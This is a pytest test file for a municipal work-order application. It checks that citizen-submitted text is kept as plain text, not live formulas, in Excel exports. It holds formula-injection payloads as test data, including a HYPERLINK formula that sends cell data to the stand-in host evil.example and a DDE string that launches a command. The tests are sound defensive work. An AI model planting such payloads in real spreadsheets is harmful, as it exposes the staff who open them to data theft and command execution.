"""H1: text typed by anyone (a citizen on the public form, a rater, a reporter) never becomes a
live formula in a staff member's export. One rule (yiwang.documents.excel) for every export."""
import io
import zipfile

import pytest
from openpyxl import load_workbook

from yiwang.documents.excel import FORMULA_STARTS, Sheet
from yiwang.reviews import services as reviews
from yiwang.workorders.models import WorkOrder

from ..conftest import make_user
from ..reviews.test_ratings import closed

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&J2,"点击")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


def formulas(content):
    """Every <f> element in the workbook's sheets, and the cells openpyxl reads as formulas."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    book = load_workbook(io.BytesIO(content))
    cells = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return xml.count("<f>") + xml.count("<f "), cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sheet_keeps_every_formula_start_as_text(payload):
    sheet = Sheet("t", ["a"])
    sheet.row([payload])
    content = sheet.content()
    assert formulas(content) == (0, [])
    kept = load_workbook(io.BytesIO(content)).active["A2"].value  # the text itself is kept (XML reads CR as LF)
    assert kept in (payload, payload.replace("\r", "\n"))
    assert payload.startswith(FORMULA_STARTS)


def test_a_citizens_formula_from_the_public_form_stays_text_in_the_dispatchers_export(org, client):
    client.post("/public/", {"order_type": "complaint", "title": PAYLOADS[0], "body": PAYLOADS[6],
                                 "caller_name": "=1+1", "caller_phone": "13905310009", "address": "@SUM(A1)"})
    assert WorkOrder.objects.filter(channel="web").exists()
    client.force_login(org.dispatcher)
    export = client.get("/orders/export.xlsx")
    assert export.status_code == 200
    assert formulas(export.content) == (0, [])
    values = [c.value for row in load_workbook(io.BytesIO(export.content)).active.iter_rows() for c in row]
    assert PAYLOADS[0] in values


def test_ratings_and_rectification_exports_keep_formulas_as_text(org, client):
    order = closed(org)
    reviews.rate(case=order, level=1, channel="sms", comment=PAYLOADS[1], rater_name="=2*3")
    supervisor = make_user("supervisor2", ["supervisor"], org.centre)
    client.force_login(supervisor)
    for url in ("/reviews/ratings/?export=xlsx", "/reviews/?export=xlsx"):
        export = client.get(url)
        assert export.status_code == 200, url
        assert formulas(export.content) == (0, []), url
